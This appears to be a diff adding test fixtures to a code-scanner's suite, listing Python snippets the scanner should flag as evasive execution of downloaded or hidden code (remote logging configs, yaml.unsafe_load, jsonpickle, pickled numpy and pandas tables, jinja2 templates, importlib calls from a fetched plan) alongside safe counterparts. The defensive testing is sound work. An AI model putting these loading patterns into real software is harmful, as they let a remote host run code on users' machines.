@@ -399,9 +399,77 @@ const NOT_RUN: readonly NotToFind[] = [
   )],
 ];
 
+const LOADED_SETTINGS: readonly ToFind[] = [
+  ['runs_downloaded_code', 'a profile of the log', lines(
+    'import logging.config, requests',
+    'answer = requests.get("https://gist.githubusercontent.com/a/b/raw/profile.json", timeout=4)',
+    'logging.config.dictConfig({**answer.json(), "incremental": False})',
+  )],
+  ['runs_downloaded_code', 'a profile of another file', {
+    'fetch.py': 'import httpx\ndef profile():\n    return httpx.get("https://example.org/a.json").json()\n',
+    '__init__.py': 'from logging.config import dictConfig\nfrom .fetch import profile\ndictConfig(profile())\n',
+  }],
+  ['runs_hidden_code', 'a profile that is decoded', lines(
+    'import base64, json, logging.config',
+    'logging.config.dictConfig(json.loads(base64.b64decode(open("a.txt").read())))',
+  )],
+  ['runs_downloaded_code', 'settings with objects', lines(
+    'import yaml, urllib.request',
+    'yaml.unsafe_load(urllib.request.urlopen("https://example.org/a.yaml").read())',
+  )],
+  ['runs_downloaded_code', 'objects in JSON', lines(
+    'import jsonpickle, requests',
+    'state = jsonpickle.decode(requests.get("https://example.org/a").text)',
+  )],
+  ['runs_downloaded_code', 'a template', lines(
+    'import jinja2, requests',
+    'text = requests.get("https://example.org/a.html").text',
+    'jinja2.Environment().from_string(text).render(a=1)',
+  )],
+  ['runs_downloaded_code', 'a table of objects', lines(
+    'import io, requests, numpy as np',
+    'np.load(io.BytesIO(requests.get("https://example.org/a.npy").content), allow_pickle=True)',
+  )],
+  ['runs_downloaded_code', 'a table at an address', lines(
+    'import pandas as pd',
+    'pd.read_pickle("https://example.org/a.pkl")',
+  )],
+  ['hides_names', 'names that it downloads', lines(
+    'import importlib, requests',
+    'plan = requests.get("https://example.org/plan.json").json()',
+    'getattr(importlib.import_module(plan["module"]), plan["act"])(*plan["with"])',
+  )],
+];
+
+const NOT_LOADED: readonly NotToFind[] = [
+  ['an own profile of the log', lines(
+    'import json, logging.config, requests',
+    'logging.config.dictConfig(json.load(open("logging.json")))',
+    'logging.config.dictConfig({"version": 1})',
+    'requests.get("https://example.org/a").json()',
+  )],
+  ['settings that are only data', lines(
+    'import yaml, json, requests',
+    'yaml.safe_load(requests.get("https://example.org/a.yaml").text)',
+    'yaml.load(requests.get("https://example.org/a.yaml").text, Loader=yaml.SafeLoader)',
+  )],
+  ['a template of its own with downloaded words', lines(
+    'import jinja2, requests',
+    'from jinja2.sandbox import ImmutableSandboxedEnvironment',
+    'words = requests.get("https://example.org/a.json").json()',
+    'jinja2.Template("{{ words }}").render(words=words)',
+    'ImmutableSandboxedEnvironment().from_string(words["chat_template"]).render()',
+  )],
+  ['tables that are only data', lines(
+    'import io, requests, numpy as np',
+    'np.load(io.BytesIO(requests.get("https://example.org/a.npy").content), allow_pickle=False)',
+    'np.load("own.npy", allow_pickle=True)',
+  )],
+];
+
 /** Classes of attacks that a blind trial of the scan showed. */
-export const EVASIONS_TO_FIND: readonly ToFind[] = [...OVERWRITTEN, ...COMPUTED_NAMES, ...REPLACED_LIBRARIES, ...RUN_TEXTS];
-export const EVASIONS_NOT_TO_FIND: readonly NotToFind[] = [...NOT_OVERWRITTEN, ...NOT_COMPUTED, ...NOT_REPLACED, ...NOT_RUN];
+export const EVASIONS_TO_FIND: readonly ToFind[] = [...OVERWRITTEN, ...COMPUTED_NAMES, ...REPLACED_LIBRARIES, ...RUN_TEXTS, ...LOADED_SETTINGS];
+export const EVASIONS_NOT_TO_FIND: readonly NotToFind[] = [...NOT_OVERWRITTEN, ...NOT_COMPUTED, ...NOT_REPLACED, ...NOT_RUN, ...NOT_LOADED];
 
 const CODES = [...'https://img.example.net/p.gif?s='].map((letter) => letter.charCodeAt(0));
 const SUMS = CODES.map((_, at) => CODES.slice(0, at + 1).reduce((sum, code) => sum + code, 0));
